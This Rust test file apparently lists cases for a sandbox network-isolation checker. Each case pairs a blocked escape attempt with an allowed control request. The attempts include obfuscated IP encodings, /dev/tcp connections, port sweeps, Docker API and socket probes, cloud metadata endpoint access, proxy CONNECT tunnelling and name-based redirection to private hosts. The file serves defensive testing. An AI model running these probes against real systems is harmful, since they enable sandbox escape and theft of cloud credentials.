//! Addresses: somebody's own, the host's, the engine's, the cloud's, other sandboxes'.

use super::case::{Case, case};

/// Twin of most: the same, to whom it may talk.
const FRIEND: &str = r#"web "$friend" friend.test"#;

pub(super) const CASES: &[Case] = &[
    case("an address in its usual notation", r#"reach "$THIEF:80""#, FRIEND),
    case(
        "an address with another's name in TLS",
        r#"shake "$THIEF:443" friend.test"#,
        r#"shake "$friend:443" friend.test"#,
    ),
    case(
        "an address as one decimal number",
        r#"browse "http://$(decimal "$THIEF")/" | grep -q internet"#,
        r#"browse http://friend.test/ | grep -q internet"#,
    ),
    case(
        "an address in hexadecimal",
        r#"browse "http://$(printf 0x%08x "$(decimal "$THIEF")")/" | grep -q internet"#,
        r#"browse http://friend.test/ | grep -q internet"#,
    ),
    case(
        "an address in octal",
        r#"browse "http://$(printf '0%03o.%03o.%03o.0%03o' ${THIEF//./ })/" | grep -q internet"#,
        r#"browse http://friend.test/ | grep -q internet"#,
    ),
    case(
        "an address in two parts",
        r#"reach "$(cut -d. -f1 <<<"$THIEF").$(( $(decimal "$THIEF") & 0xffffff )):80""#,
        FRIEND,
    ),
    case("IPv4 in IPv6", r#"reach "[::ffff:$THIEF]:80""#, FRIEND),
    case("IPv4 in IPv6, compatible", r#"reach "[::$THIEF]:80""#, FRIEND),
    case(
        "IPv4 behind a translating prefix",
        r#"reach "[64:ff9b::$(hextets "$THIEF")]:80" || reach "[2002:$(hextets "$THIEF")::1]:80""#,
        FRIEND,
    ),
    case("an address of the public IPv6", r#"reach "[2001:db8::1]:80" || reach "[2606:4700::1111]:80""#, FRIEND),
    case(
        "link-local IPv6 of the gateway and of everybody",
        r#"for to in fe80::1 "fe80::42:c6ff:fe12:2" ff02::1; do
               for port in 53 80 443 3128; do reach "[$to%2]:$port" & all+=($!); done
           done; won || "$a" udp "ff02::1%2" 53 hello"#,
        FRIEND,
    ),
    case(
        "every usual port of an address",
        r#"for port in 21 22 25 53 110 123 853 993 3128 5432 7000 8080 8443; do reach "$THIEF:$port" & all+=($!); done
           won"#,
        r#"reach_echo "$("$a" own echo.test):7000""#,
    ),
    case(
        "an address with datagrams",
        r#""$a" udp "$THIEF" 53 hello || "$a" udp "$THIEF" 443 hello"#,
        r#""$a" dns "$GATEWAY" friend.test A"#,
    ),
    case("an echo of ICMP", r#""$a" ping "$THIEF""#, FRIEND),
    case("an address in a packet of its own making", r#""$a" raw "$THIEF""#, FRIEND),
    case(
        "an address with bash alone",
        r#"exec 3<>"/dev/tcp/$THIEF/80"; echo >&3; read -t 1 -u 3"#,
        r#"exec 3<>"/dev/tcp/$friend/80"; printf 'GET / HTTP/1.0\r\nHost: friend.test\r\n\r\n' >&3; grep -q internet <&3"#,
    ),
    case("an address as the host of a request", r#"web "$GATEWAY" "$THIEF""#, r#"web "$GATEWAY" friend.test"#),
    case(
        "an address as the host of a request, as one number",
        r#"web "$GATEWAY" "$(decimal "$THIEF")""#,
        r#"web "$GATEWAY" friend.test"#,
    ),
    case("an address as the name in TLS", r#"shake "$GATEWAY:443" "$THIEF""#, r#"shake "$GATEWAY:443" friend.test"#),
    // The host.
    case(
        "a service of the host on every address, by all of its bridges",
        r#"for to in $BRIDGES; do "$a" talk "$to:$HOST_PORT" read=host & all+=($!); done; won"#,
        FRIEND,
    ),
    case(
        "the host by the first address of the sandbox's own network",
        r#"for to in "${SUBNET%.*}.1" "${SUBNET%.*}.0" "${SUBNET%.*}.255"; do "$a" talk "$to:$HOST_PORT" read=host & all+=($!); done; won"#,
        FRIEND,
    ),
    case(
        "the host by its datagrams",
        r#"for to in $BRIDGES "${SUBNET%.*}.1"; do "$a" udp "$to" "$HOST_PORT" hello & all+=($!); done; won"#,
        r#""$a" dns "$GATEWAY" friend.test A"#,
    ),
    case(
        "the host through the gateway's proxy",
        r#"for to in $BRIDGES localhost 127.0.0.1 host.docker.internal gateway.docker.internal; do
               "$a" talk "$GATEWAY:3128" "$no" "send=CONNECT $to:$HOST_PORT HTTP/1.1\r\nHost: $to\r\n\r\n" "read= 200" read=host & all+=($!)
           done; won"#,
        r#"tunnel friend.test:80"#,
    ),
    case(
        "the host by a name that leads to it",
        r#"web "$("$a" own bridge.test || echo "$GATEWAY")" bridge.test"#,
        FRIEND,
    ),
    case(
        "the engine on its usual ports",
        r#"for to in $BRIDGES "${SUBNET%.*}.1" 127.0.0.1; do for port in 2375 2376 4243; do
               "$a" talk "$to:$port" within=1000 'send=GET /version HTTP/1.0\r\n\r\n' read=ApiVersion & all+=($!)
           done; done; won"#,
        FRIEND,
    ),
    case(
        "the engine's socket",
        r#"for place in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock; do
               curl -sS -m 1 --unix-socket "$place" http://engine/version && exit 0
           done; false"#,
        r#"browse http://friend.test/ | grep -q internet"#,
    ),
    // The cloud.
    case(
        "the address of a machine's metadata",
        r#"reach 169.254.169.254:80 || reach 168.63.129.16:80 || reach 100.100.100.200:80"#,
        FRIEND,
    ),
    case(
        "metadata through the gateway",
        r#"web "$GATEWAY" 169.254.169.254 || proxied http://169.254.169.254/latest/meta-data/ || tunnel 169.254.169.254:80"#,
        r#"proxied http://friend.test/"#,
    ),
    case(
        "metadata by a name that leads to it",
        r#"web "$("$a" own metadata.test || echo "$GATEWAY")" metadata.test"#,
        FRIEND,
    ),
    case(
        "metadata by the names that clouds give it",
        r#"for name in metadata.google.internal instance-data metadata metadata.azure.internal; do
               "$a" own "$name" && exit 0; web "$GATEWAY" "$name" && exit 0; done; false"#,
        FRIEND,
    ),
    // Names that lead where they should not.
    case(
        "the gateway's loopback by a name",
        r#"web "$("$a" own loopback.test || echo "$GATEWAY")" loopback.test || proxied http://loopback.test:3128/"#,
        FRIEND,
    ),
    case(
        "a private network by a name",
        r#"for port in 80 443; do "$a" talk "$("$a" own private.test):$port" 'hello=name=private.test' 'read=\x16\x03' && exit 0; done; false"#,
        r#"shake "$friend:443" friend.test"#,
    ),
    case(
        "the gateway itself by a name",
        r#"web "$("$a" own itself.test || echo "$GATEWAY")" itself.test || through itself.test:3128 http://friend.test/ || through itself.test:80"#,
        FRIEND,
    ),
    case("everybody by a name", r#"web "$("$a" own nowhere.test || echo "$GATEWAY")" nowhere.test"#, FRIEND),
    case("another sandbox by a name", r#"web "$("$a" own neighbour.test || echo "$GATEWAY")" neighbour.test"#, FRIEND),
    // Other sandboxes, and the gateway's other side.
    case(
        "another sandbox",
        r#"for port in 80 443 7777; do "$a" talk "$NEIGHBOUR:$port" within=700 read=neighbour && exit 0; done; false"#,
        FRIEND,
    ),
    case(
        "another sandbox's gateway",
        r#"for to in "$NEIGHBOUR_GATEWAY" "$NEIGHBOUR_OUTSIDE"; do
               web "$to" friend.test && exit 0
               "$a" dns "$to" friend.test A && exit 0
               "$a" talk "$to:3128" 'send=CONNECT friend.test:443 HTTP/1.1\r\nHost: friend.test\r\n\r\n' 'read= 200' && exit 0
           done; false"#,
        r#"web "$GATEWAY" friend.test"#,
    ),
    case(
        "the gateway's other side",
        r#"for to in $OUTSIDE; do
               web "$to" friend.test && exit 0
               "$a" talk "$to:3128" 'send=CONNECT friend.test:443 HTTP/1.1\r\nHost: friend.test\r\n\r\n' 'read= 200' && exit 0
           done; false"#,
        r#"web "$GATEWAY" friend.test"#,
    ),
    case(
        "every own address with the name of somebody else",
        r#""$a" sweep "${SUBNET%.*}.16" "${SUBNET%.*}.255" 80 'GET / HTTP/1.1\r\nHost: thief.test\r\n\r\n' internet"#,
        r#""$a" sweep "$friend" "$friend" 80 'GET / HTTP/1.1\r\nHost: friend.test\r\n\r\n' internet"#,
    ),
    case(
        "every own address without any name",
        r#""$a" sweep "${SUBNET%.*}.16" "${SUBNET%.*}.255" 7000 hello neighbour"#,
        r#"reach_echo "$("$a" own echo.test):7000""#,
    ),
];
